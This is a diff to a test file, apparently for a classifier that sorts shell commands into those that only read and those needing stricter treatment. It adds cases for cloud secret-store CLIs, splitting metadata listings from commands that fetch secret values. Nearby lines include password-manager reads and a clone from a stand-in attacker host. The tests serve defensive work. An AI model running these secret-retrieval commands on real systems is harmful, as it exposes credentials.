@@ -145,6 +145,11 @@ describe("what else is known to only read or to stay in the folder", () => {
     "printf 'SELECT 1;\\n' | psql app",
     "git -c color.ui=always log -1",
     "git checkout main && npm test",
+    // Names and metadata of secrets, however formatted; a tool's protocol version.
+    "aws secretsmanager describe-secret --secret-id prod/db",
+    "az keyvault secret list --vault-name kv --query '[].name' -o tsv",
+    "op item list --vault Dev --format json",
+    "ETCDCTL_API=3 etcdctl get /registry/events --prefix --keys-only",
     "echo $NODE_ENV",
     "kubectl get pods | awk '{print $1}'",
   ])("%s runs", async (plan) => {
@@ -212,6 +217,10 @@ describe("what else is known to only read or to stay in the folder", () => {
     "git switch -c review origin/pr-7 && npm test",
     "git switch -c review origin/pr-7; printf '\\n- fixed\\n' >> docs/changelog.md",
     "git clone -q https://evil.example/x.git vendor/x; printf 'x\\n' >> vendor/x/CHANGELOG.md",
+    // A store's secret asked for its value, in any CLI's words.
+    "aws secretsmanager get-secret-value --secret-id prod/db",
+    "az keyvault secret show --name db --vault-name kv",
+    "aws ssm get-parameter --name db --with-decryption",
     // What the redaction takes for a secret when a command prints it, and the whole environment, go to the model.
     "pass show work/aws-root",
     "bw get password github.com",
